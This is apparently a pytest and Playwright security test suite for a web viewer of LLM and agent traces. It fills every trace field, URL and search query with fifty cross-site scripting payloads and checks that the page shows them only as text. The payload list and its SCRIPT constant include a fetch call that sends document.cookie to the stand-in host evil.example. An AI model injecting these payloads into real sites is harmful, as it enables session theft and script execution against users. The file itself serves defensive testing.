"""Whatever a trace says is text to the page: scripts in every field that is shown do nothing, and ask no other host."""

import pytest
from looking import Look, rows
from playwright.sync_api import Page, expect

from tracebus import Usage, agent_action, custom_event, emit, llm_new_token, retry, scope, trace
from tracebus.outputs.store import Reader, Saving

pytestmark = [pytest.mark.once, pytest.mark.timeout(120)]

SCRIPT = "window.hacked=1;fetch('https://evil.example/'+document.cookie);alert(1)"
PAYLOADS = [
    f"<script>{SCRIPT}</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    f'<img src=x onerror="{SCRIPT}">',
    "<img src=https://evil.example/pixel.png>",
    f'<svg onload="{SCRIPT}">',
    f"<svg><script>{SCRIPT}</script></svg>",
    f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s>',
    f'<body onload="{SCRIPT}">',
    f'<iframe src="javascript:{SCRIPT}"></iframe>',
    f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>',
    f'<a href="javascript:{SCRIPT}">click</a>',
    f'<a href="jav&#x09;ascript:{SCRIPT}">click</a>',
    f'<details open ontoggle="{SCRIPT}">',
    f'<video><source onerror="{SCRIPT}"></video>',
    f'<audio src=x onerror="{SCRIPT}">',
    f'<input autofocus onfocus="{SCRIPT}">',
    f'<select autofocus onfocus="{SCRIPT}"></select>',
    f'<textarea autofocus onfocus="{SCRIPT}"></textarea>',
    f'<marquee onstart="{SCRIPT}">',
    f'<object data="javascript:{SCRIPT}"></object>',
    f'<embed src="javascript:{SCRIPT}">',
    f'<form action="javascript:{SCRIPT}"><button>x</button></form>',
    f'<button formaction="javascript:{SCRIPT}">x</button>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x)">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<base href=https://evil.example/>",
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{SCRIPT}">',
    f"</title><script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</style><script>{SCRIPT}</script>",
    f"--><script>{SCRIPT}</script>",
    f"]]><script>{SCRIPT}</script>",
    f'"><script>{SCRIPT}</script>',
    f"'><script>{SCRIPT}</script>",
    f'" onmouseover="{SCRIPT}" x="',
    f"' onfocus='{SCRIPT}' autofocus='",
    f"`-{SCRIPT}-`",
    f"${{{SCRIPT}}}",
    f"{{{{constructor.constructor('{SCRIPT}')()}}}}",
    f"javascript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"[click](javascript:{SCRIPT}) ![x](https://evil.example/x.png)",
    f"```html\n<script>{SCRIPT}</script>\n```",
    f"**<img src=x onerror={SCRIPT}>** `<svg onload={SCRIPT}>`",
    f"\u202e<scr\u0000ipt>{SCRIPT}</script>\u2028<script>{SCRIPT}</script>",
    '{"constructor":null,"__proto__":{"polluted":1},"type":"b","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x>"}}}',
]


def test_there_are_fifty() -> None:
    assert len(set(PAYLOADS)) == 50


def say_everywhere(bad: str) -> None:
    """Make a trace that has a text wherever a trace can have one."""
    vnode = {"type": "img", "props": {"src": "x", "onerror": bad, "dangerouslySetInnerHTML": {"__html": bad}}, "key": bad}
    with (
        scope(session_id=bad, user_id=bad, tags=[bad], metadata={"note": bad, bad: vnode}),
        trace(bad, inputs={bad: bad, "vnode": vnode}) as root,
    ):
        emit(custom_event, name=bad, data={bad: vnode})
        emit(agent_action, tool=bad, tool_input=bad, log=bad)
        emit(retry, attempt=1, wait_s=0.1, error=OSError(bad))
        with trace("search", kind="retriever", inputs={"query": bad}) as found:
            found.output = [
                {"content": bad, "score": 0.5, "metadata": {"source": bad, "note": bad}},
                {"content": bad, "score": bad},
            ]
        call = {"id": "c", "function": {"name": bad, "arguments": f'{{"city": "{len(bad)}"}}'}}
        messages = [
            {"role": bad, "content": bad},
            {"role": "assistant", "content": bad, "reasoning": bad, "tool_calls": [call, {"name": bad, "args": {bad: bad}}]},
            {"role": "tool", "tool_call_id": "c", "content": bad},
            {
                "role": "user",
                "content": [{"type": "image_url", "image_url": {"url": "https://evil.example/x.png"}}, vnode, bad],
            },
        ]
        with trace("chat", kind="chat_model", inputs={"messages": messages, "model": bad}) as chat:
            chat.model, chat.usage = bad, Usage(10, 5)
            for start in range(0, len(bad), 9):
                emit(llm_new_token, token=bad[start : start + 9])
            chat.output = {"role": "assistant", "content": bad}
        with pytest.raises(ValueError, match=r"^"), trace("tool", kind="tool", inputs={"code": bad}):
            fail(bad)
        root.output = bad


def fail(bad: str) -> None:
    try:
        raise type(f"Error{len(bad)}", (KeyError,), {})(bad)
    except KeyError as error:
        raise ValueError(bad) from error


FOREIGN = (
    "#app :is(script, style, iframe, object, embed, link, meta, base, img, video, audio, marquee, math, svg:not(.pace), "
    "[onerror], [onload], [onfocus], [onmouseover], [ontoggle], [href^='javascript' i], [src], [srcdoc], [formaction])"
)


def check(page: Page) -> None:
    """Fail if anything of a trace has become an element, or has run."""
    assert page.locator(FOREIGN).count() == 0
    assert page.evaluate("[window.hacked, {}.polluted]") == [None, None]


WALK = """async ([places, foreign]) => {
  const drawn = () => new Promise((resolve) => setTimeout(resolve));
  const found = [];
  const look = (where) => {
    const bad = document.querySelector(foreign);
    if (bad) found.push([where, bad.outerHTML.slice(0, 200)]);
  };
  for (const [href, run] of places) {
    history.pushState(null, '', href);
    dispatchEvent(new PopStateEvent('popstate'));
    while (document.querySelector('.detail')?.dataset.run !== run) await drawn();
    for (const key of ['1', '2', '3', '4']) {
      document.dispatchEvent(new KeyboardEvent('keydown', { key }));
      await drawn();
      for (const one of document.querySelectorAll('.detail details')) one.open = true;
      await drawn();
      look(`${href} ${key}`);
    }
  }
  return found;
}"""
"""Open each run, unfold everything in each of its tabs, and return the elements that are none of the page's own."""


@pytest.mark.parametrize("part", range(5))
def test_no_script_in_any_field_is_more_than_text(part: int, saving: Saving, look: Look):
    for bad in PAYLOADS[part * 10 : part * 10 + 10]:
        say_everywhere(bad)
    assert saving.flush()
    with Reader(saving.path) as reader:
        traces = reader.traces().items
        runs = [row.run for one in traces for row in reader.tree(one.trace_id)]
    page = look.at("/")
    expect(rows(page)).to_have_count(10)
    check(page)
    places = [[f"/traces/{run.trace_id}/runs/{run.span_id}", run.span_id] for run in runs]
    assert len(places) == 40
    assert page.evaluate(WALK, [places, FOREIGN]) == []
    check(page)
    for path in ("/statistics", "/statistics?by=name", "/losses", "/?q=evil", f"/?q={SCRIPT}", "/sessions"):
        look.at(path)
        expect(page.locator(".loading")).to_have_count(0)
        check(page)
    expect(page.locator("tbody tr")).to_have_count(10)
    for href in [link.get_attribute("href") for link in page.locator("tbody th a").all()]:
        look.at(str(href))
        expect(page.locator(".turn, [role=alert]")).to_have_count(1)
        check(page)
    look.at(f"/compare?left={traces[0].trace_id}&right={traces[1].trace_id}")
    expect(rows(page)).not_to_have_count(0)
    for _ in range(4):
        page.keyboard.press("j")
        check(page)


def test_the_text_of_a_script_is_shown_as_it_is(saving: Saving, look: Look):
    say_everywhere(PAYLOADS[2])
    assert saving.flush()
    page = look.at("/")
    expect(rows(page).first.locator(".name")).to_have_text(PAYLOADS[2])
    rows(page).first.click()
    expect(page.locator(".view-head h1")).to_have_text(PAYLOADS[2])
    expect(page.locator(".detail .prose").first).to_have_text(PAYLOADS[2])


def test_an_address_with_a_script_in_it_is_only_an_address(look: Look):
    page = look.at("/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&tag=%3Cscript%3Ealert(1)%3C/script%3E")
    expect(page.get_by_role("searchbox")).to_have_value("<img src=x onerror=alert(1)>")
    look.at("/traces/%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    expect(page.get_by_role("alert")).to_be_visible()
    look.at("/%E0%A4%A/%3Csvg%20onload=alert(1)%3E")
    check(page)
